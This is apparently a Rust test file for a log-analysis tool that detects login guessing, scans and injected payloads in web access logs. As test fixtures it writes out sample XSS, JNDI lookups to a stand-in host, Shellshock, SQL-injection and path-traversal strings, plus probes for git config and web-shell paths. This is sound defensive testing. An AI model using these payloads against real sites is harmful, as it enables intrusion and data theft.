//! The rules for web requests on real logs: what they name, and every hit to be read by eye.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use logloupe::config::HuntSettings;
use logloupe::format::{Format, Header, Sample, by_name, detect};
use logloupe::rule::web::{Request, look};
use logloupe::rule::{Confidence, Finding, Hunt};

/// A log's bytes, unpacked where need be.
fn read(path: &Path) -> Vec<u8> {
    use std::io::Read;
    let bytes = std::fs::read(path).unwrap();
    if path.extension().is_some_and(|extension| extension == "gz") {
        let mut unpacked = Vec::new();
        flate2::read::MultiGzDecoder::new(&bytes[..]).read_to_end(&mut unpacked).unwrap();
        return unpacked;
    }
    bytes
}

/// The rules that hit a line.
fn rules(line: &[u8], header: &Header) -> BTreeSet<&'static str> {
    look(&Request::of(line, header)).iter().map(|hit| hit.rule.id).collect()
}

fn combined() -> Format {
    by_name("access-combined").unwrap().clone()
}

/// A line of a request: seconds after noon, what was asked, who asked, and what was answered.
fn line(at: u32, user: &str, request: &str, status: u16, bytes: u32) -> String {
    let (hour, minute, second) = (12 + at / 3_600, at / 60 % 60, at % 60);
    format!(
        "192.0.2.9 - {user} [01/May/2024:{hour:02}:{minute:02}:{second:02} +0000] \"{request} HTTP/1.1\" {status} {bytes} \"-\" \"x\"\n"
    )
}

/// What a hunt finds in lines of a combined log.
fn hunted(log: &str) -> Vec<Finding> {
    hunted_in(log, &[combined()])
}

fn hunted_in(log: &str, formats: &[Format]) -> Vec<Finding> {
    let mut hunt = Hunt::new(&HuntSettings::default());
    let mut scout = hunt.scout();
    log.lines().for_each(|line| scout.read(line.as_bytes(), formats));
    hunt.take(&scout.finish());
    hunt.finish().findings
}

fn kinds(log: &str) -> Vec<String> {
    hunted(log).into_iter().map(|found| found.kind).collect()
}

const NOTHING: Vec<String> = Vec::new();

#[test]
fn ok_refusals_are_counted_whatever_their_size() {
    for status in [401, 403, 406] {
        let tries: String = (0..15).map(|at| line(at * 2, "-", "POST /login", status, 900 + at * 37)).collect();
        assert_eq!(kinds(&tries), ["web-login-guessing"], "{status}");
    }
    // Also slowly, where the page says plainly that it refused.
    for status in [401, 403] {
        let slow: String = (0..15).map(|at| line(at * 300, "-", "POST /wp-login.php", status, 12)).collect();
        assert_eq!(kinds(&slow), ["web-login-guessing"]);
    }
    let faults: String = (0..15).map(|at| line(at, "-", "POST /login", 500, 12)).collect();
    assert_eq!(kinds(&faults), ["web-login-guessing"]);
    let forms: String = (0..15).map(|at| line(at * 3, "-", "POST /wp-login.php", 200, 3_000 + at % 7)).collect();
    assert_eq!(kinds(&forms), ["web-login-guessing"]);
}

#[test]
fn ok_a_success_after_refusals_is_the_gravest() {
    let tries: String = (0..12).map(|at| line(at * 5, "-", "POST /login", 401, 12 + at)).collect();
    for status in [200, 302] {
        let found = hunted(&(tries.clone() + &line(80, "-", "POST /login", status, 0)));
        assert_eq!((found[0].kind.as_str(), found[0].severity), ("web-login-success", 5));
        assert_eq!((found[0].confidence, found[0].seen.first_line), (Confidence::High, 13));
        assert!(found[0].because.contains("/login"), "{}", found[0].because);
    }
    let basic: String = (0..12).map(|at| line(at, "admin", "GET /manager/html", 401, 2_500)).collect();
    let found = hunted(&(basic + &line(20, "admin", "GET /manager/html", 200, 17_000)));
    assert_eq!((found[0].kind.as_str(), found[0].confidence), ("web-login-success", Confidence::High));
    assert_eq!(found[1].kind, "web-login-guessing");
    // Locked out, and then shown the form again.
    let locked: String = (0..15).map(|at| line(at * 60, "-", "POST /wp-login.php", 403, 3_000)).collect();
    let found = hunted(&(locked + &line(4_000, "-", "POST /wp-login.php", 200, 5_000)));
    let weak = found.iter().find(|found| found.kind == "web-login-success").unwrap();
    assert_eq!((weak.severity, weak.confidence), (3, Confidence::Low));
    // A few refusals are somebody who mistyped, most likely.
    let few: String = (0..4).map(|at| line(at * 9, "-", "POST /login", 401, 12)).collect();
    let found = hunted(&(few + &line(60, "-", "POST /login", 302, 0)));
    assert_eq!((found.len(), found[0].severity, found[0].confidence), (1, 3, Confidence::Low));
}

#[test]
fn err_ordinary_logins_are_no_guessing() {
    let pairs = |user: &str, request: &str, status: u16| -> String {
        let one = |at: u32| line(at, "-", request, 401, 400) + &line(at, user, request, status, 4_000);
        (0..40).map(|at| one(at * 2)).collect()
    };
    assert_eq!(kinds(&pairs("alice", "PROPFIND /caldav/alice/", 207)), NOTHING);
    assert_eq!(kinds(&pairs("-", "GET /svn/trunk", 200)), NOTHING);
    // Many resources, each asked for without a password first.
    let each: String = (0..40).map(|at| line(at, "-", &format!("PUT /dav/{at}.ics"), 401, 9)).collect();
    assert_eq!(kinds(&each), NOTHING);
    assert_eq!(kinds(&line(0, "-", "POST /login", 302, 0)), NOTHING);
    let monitor: String = (0..300).map(|at| line(at * 60, "-", "POST /xmlrpc.php", 200, 370)).collect();
    assert_eq!(kinds(&monitor), NOTHING);
    let refused: String = (0..300).map(|at| line(at * 60, "-", "POST /xmlrpc.php", 403, 370)).collect();
    assert_eq!(kinds(&refused), NOTHING);
    let office: String = (0..40).map(|at| line(at * 90, "-", "POST /login", 302, 0)).collect();
    assert_eq!(kinds(&office), NOTHING);
    let alive: String = (0..100).map(|at| line(at * 5, "-", "POST /api/session/keepalive", 200, 2)).collect();
    assert_eq!(kinds(&alive), NOTHING);
    let waiting: String = (0..40).map(|at| line(at * 60, "-", "GET /api/me", 401, 20)).collect();
    assert_eq!(kinds(&(waiting + &line(2_400, "-", "GET /api/me", 200, 300))), NOTHING);
    let gone: String = (0..40).map(|at| line(at, "-", "POST /wp-login.php", 404, 20)).collect();
    assert_eq!(kinds(&gone), NOTHING);
}

#[test]
fn ok_guessing_at_any_pace_that_people_do_not_have() {
    let quick: String = (0..30).map(|at| line(at * 2, "-", "POST /xmlrpc.php", 200, 403)).collect();
    assert_eq!(kinds(&quick), ["web-login-guessing"]);
    let token: String = (0..30).map(|at| line(at * 2, "-", "POST /oauth/token", 400, 60)).collect();
    assert_eq!(kinds(&token), ["web-login-guessing"]);
    let admin: String = (0..30).map(|at| line(at, "-", "GET /admin/", 401, 400)).collect();
    assert_eq!(kinds(&admin), ["web-login-guessing"]);
}

#[test]
fn ok_missing_pictures_are_no_search_and_programs_of_all_languages_are_a_scan() {
    let of = |endings: &[&str]| -> String {
        let path = |at: usize| format!("GET /a{at}{}", endings[at % endings.len()]);
        (0..40).map(|at| line(at as u32, "-", &path(at), 404, 9)).collect()
    };
    assert_eq!(kinds(&of(&[".png", ".jpg", ".ico", ".css", ".js", ".map", ".woff2"])), NOTHING);
    assert_eq!(kinds(&of(&["", ".html", ".bak"])), ["path-search"]);
    assert_eq!(kinds(&of(&[".php", ".html"])), ["path-search"]);
    assert_eq!(kinds(&of(&[".php", ".asp", ".cgi", ".jsp", ".pl", "/"])), ["vulnerability-scan", "path-search"]);
}

#[test]
fn ok_a_scanner_shows_by_what_it_does() {
    let missing: String = (0..40).map(|at| line(at, "-", &format!("GET /cgi-bin/test{at}"), 404, 9)).collect();
    let script = line(50, "-", "GET /a?q=%3Cscript%3Ealert(1)%3C/script%3E", 404, 9);
    let secret = line(51, "-", "GET /.git/config", 404, 9);
    let shell = line(52, "-", "GET /c99.php", 404, 9);
    let is_scan = |log: &str| hunted(log).iter().any(|found| found.kind == "vulnerability-scan");
    assert!(is_scan(&(missing.clone() + &script + &secret)));
    assert!(is_scan(&[&script[..], &secret, &shell].concat()));
    // Who looks for files alone is told as that, and who tries one thing alone as well.
    assert!(!is_scan(&(missing.clone() + &secret + &shell)) && !is_scan(&(missing + &script)));
    assert!(!is_scan(&(script + &secret)));
}

#[test]
fn ok_payloads_as_they_are_in_any_field() {
    let told = |log: &str| hunted(log).into_iter().map(|found| found.kind).collect::<Vec<_>>();
    let head = "192.0.2.9 - - [01/May/2024:12:00:00 +0000] \"GET / HTTP/1.1\" 200 5";
    for (rest, kind) in [
        (r#""<script>alert(1)</script>" "x""#, "cross-site-scripting"),
        (r#""${jndi:ldap://x.example/a}" "x""#, "jndi"),
        (r#""() { :; }; /bin/bash -c id" "x""#, "command-injection"),
        (r#""http://a.example/x' or '1'='1" "x""#, "sql-injection"),
        (r#""http://a.example/?x=1\" onmouseover=alert(1) y=\"" "x""#, "cross-site-scripting"),
        (r#""-" "x' union select 1,2,3--""#, "sql-injection"),
        (r#""-" "x" "${jndi:dns://x.example}""#, "jndi"),
        (r#""-" "x" 0.003 "a" "../../../../etc/passwd" "b""#, "traversal"),
        (r#""-" "\x22><script>alert(1)</script>""#, "cross-site-scripting"),
    ] {
        assert!(
            told(&format!("{head} {rest}\n")).contains(&kind.to_owned()),
            "{rest}: {:?}",
            told(&format!("{head} {rest}\n"))
        );
    }
    assert_eq!(told(&line(0, "${jndi:ldap://x.example/a}", "GET /", 401, 5)), ["jndi"]);
    for rest in [
        r#""http://localhost:8080/?x=1" "Mozilla/5.0 (X11; Linux x86_64)""#,
        r#""https://www.example.com/search?q=how+to+use+union+select" "x" "203.0.113.7, 10.0.0.1" "id=5; theme=dark""#,
        r#""https://wiki.example.com/wiki/etc/passwd" "x" "\"Chromium\";v=\"110\", \"Not A(Brand\";v=\"24\"""#,
        r#""android-app://com.example/" "x""#,
    ] {
        assert_eq!(told(&format!("{head} {rest}\n")), NOTHING, "{rest}");
    }
}

#[test]
fn ok_columns_and_members_of_their_own() {
    let iis = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status\n";
    let row = |query: &str, user: &str, agent: &str, referrer: &str| {
        format!("2026-11-20 10:00:10 10.0.0.1 GET /a.aspx {query} 443 {user} 192.0.2.9 {agent} {referrer} 200\n")
    };
    let told = |row: &str| {
        let log = format!("{iis}{row}");
        let found = detect(&Sample::of(log.as_bytes())).chosen;
        assert_eq!(found.format.name, "w3c-web");
        hunted_in(&log, &[found.format]).into_iter().map(|found| found.kind).collect::<Vec<_>>()
    };
    assert_eq!(told(&row("-", "-", "sqlmap/1.7+(https://sqlmap.org)", "-")), ["scanner-agent"]);
    assert_eq!(told(&row("-", "-", "${jndi:ldap://x.example/a}", "-")), ["jndi"]);
    assert_eq!(
        told(&row("-", "-", "curl/8", "https://a.example/?q=<script>alert(1)</script>")),
        ["cross-site-scripting"]
    );
    assert_eq!(told(&row("-", "x'+or+'1'='1", "curl/8", "-")), ["sql-injection"]);
    let agent = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36";
    assert_eq!(told(&row("id=7", r"EXAMPLE\alice", agent, "https://a.example/b?c=d")), NOTHING);
    let json = r#"{"time_iso8601":"2024-05-01T14:30:45+02:00","remote_addr":"192.0.2.9","request_method":"GET","request_uri":"/","status":"200","http_referer":"${jndi:ldap://x.example}","http_user_agent":"Nikto/2.5"}"#;
    let found = hunted_in(json, &[by_name("nginx-json").unwrap().clone()]);
    assert_eq!(found.iter().map(|found| found.kind.as_str()).collect::<Vec<_>>(), ["jndi", "scanner-agent"]);
}

/// What is quoted is whole text, wherever a long path was cut, and marks in it stay marks.
#[test]
fn ok_quoted_texts_are_whole() {
    let path = format!("/login/{}/é\u{200B}\u{202E}", "ж".repeat(300));
    for shift in 0..3 {
        let tries: String =
            (0..12).map(|at| line(at, "-", &format!("POST {}{path}", &"///"[shift..]), 401, 9)).collect();
        let found = hunted(&tries);
        assert_eq!(found[0].kind, "web-login-guessing");
        assert!(!found[0].because.contains('\u{FFFD}'), "{}", found[0].because);
    }
}

/// Percent signs and plus signs taken off until nothing changes, by no code of ours.
fn plainly_decoded(text: &str) -> String {
    let mut text = text.to_owned();
    for _ in 0..4 {
        let bytes = text.replace('+', " ").into_bytes();
        let (mut decoded, mut at) = (Vec::new(), 0);
        while at < bytes.len() {
            let code = bytes.get(at + 1..at + 3).and_then(|code| std::str::from_utf8(code).ok());
            match code.and_then(|code| u8::from_str_radix(code, 16).ok()).filter(|_| bytes[at] == b'%') {
                Some(byte) => {
                    decoded.push(byte);
                    at += 3;
                }
                None => {
                    decoded.push(bytes[at]);
                    at += 1;
                }
            }
        }
        text = String::from_utf8_lossy(&decoded).into_owned();
    }
    text
}

/// Whether a request carries a payload: its decoded path or query holds a sign that the site's own links do not have and that
/// means something to SQL, a shell, a template, HTML, a file system or a fetcher. Read off the log by eye, not off our rules.
fn carries_payload(path: &str) -> bool {
    let plain = plainly_decoded(path);
    let signs = ['\'', '"', '<', '>', ';', '|', '`', '{', '}', '(', ')', '\\', '\0', '\r', '\n', '$'];
    plain.contains(signs)
        || ["../", "/etc/", "=http://", "=https://", "=//", "@@", "..\u{FFFD}"].iter().any(|sign| plain.contains(sign))
}

#[test]
fn the_scanner_comes_first_and_its_payloads_are_named() {
    let Some(data) = common::real_logs("web_rules, scanner") else { return };
    let bytes = read(&data.join("web/scan_acunetix.log"));
    let formats = [combined()];
    let mut hunt = Hunt::new(&HuntSettings::default());
    let mut scout = hunt.scout();
    let (mut payloads, mut named) = (0, 0);
    let mut unnamed: BTreeMap<String, u32> = BTreeMap::new();
    for line in bytes.split(|byte| *byte == b'\n') {
        scout.read(line, &formats);
        let Some(header) = formats[0].parse(line) else { continue };
        let path = String::from_utf8_lossy(header.path.of(line)).into_owned();
        if !carries_payload(&path) {
            continue;
        }
        payloads += 1;
        let rules = rules(line, &header);
        if rules.iter().any(|rule| *rule != "scanner-agent") {
            named += 1;
        } else {
            *unnamed.entry(plainly_decoded(&path).chars().take(160).collect()).or_default() += 1;
        }
    }
    hunt.take(&scout.finish());
    for (path, count) in &unnamed {
        println!("not named: {count} {path:?}");
    }
    println!("scan_acunetix.log: {named} of {payloads} requests with a payload named by kind");
    let first = &hunt.finish().findings[0];
    println!("the first finding: {} from {}", first.kind, first.source);
    let busiest = bytes.split(|byte| *byte == b'\n').filter_map(|line| line.split(|byte| *byte == b' ').next());
    let mut addresses: BTreeMap<&[u8], u32> = BTreeMap::new();
    busiest.for_each(|address| *addresses.entry(address).or_default() += 1);
    let scanner = addresses
        .iter()
        .max_by_key(|(_, count)| **count)
        .map(|(address, _)| String::from_utf8_lossy(address).trim_matches('"').to_owned());
    assert_eq!(Some(first.source.clone()), scanner);
    assert!(payloads > 100 && named * 100 >= payloads * 60, "{named} of {payloads}");
}

/// Prints each distinct request that a rule hits, and each finding of a hunt, with `--nocapture`, to be judged by eye (benches/record/rules-precision.md).
#[test]
fn every_hit_on_ordinary_sites_is_shown() {
    let Some(data) = common::real_logs("web_rules, hits") else { return };
    for name in ["wordpress_access.log.gz", "apache_combined_10k.log"] {
        let format = combined();
        let mut hits: BTreeMap<(&str, String), u32> = BTreeMap::new();
        let bytes = read(&data.join("web").join(name));
        let mut lines = 0;
        let mut hunt = Hunt::new(&HuntSettings::default());
        let mut scout = hunt.scout();
        for line in bytes.split(|byte| *byte == b'\n') {
            scout.read(line, std::slice::from_ref(&format));
            let Some(header) = format.parse(line) else { continue };
            lines += 1;
            for rule in rules(line, &header) {
                let rest = String::from_utf8_lossy(&line[header.path.start as usize..]).into_owned();
                *hits.entry((rule, rest.chars().take(400).collect())).or_default() += 1;
            }
        }
        assert!(lines > 9_000, "{name}: {lines}");
        for ((rule, request), count) in &hits {
            println!("HIT {name} {rule} {count} {request:?}");
        }
        hunt.take(&scout.finish());
        for found in hunt.finish().findings {
            let Finding { kind, source, severity, because, seen, .. } = found;
            println!("FINDING {name} {severity} {kind} {source} {} {:?} {because}", seen.count, seen.evidence);
        }
    }
}
